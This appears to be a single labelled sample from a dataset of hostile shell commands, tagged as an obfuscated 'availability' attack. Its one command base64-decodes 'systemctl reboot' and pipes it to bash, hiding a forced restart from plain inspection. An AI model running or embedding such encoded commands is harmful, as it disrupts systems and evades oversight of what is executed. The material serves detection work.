# description: Decodes a base64 systemctl reboot and pipes it to bash.
# family: availability
# obfuscated: yes
echo c3lzdGVtY3RsIHJlYm9vdA== | base64 -d | bash
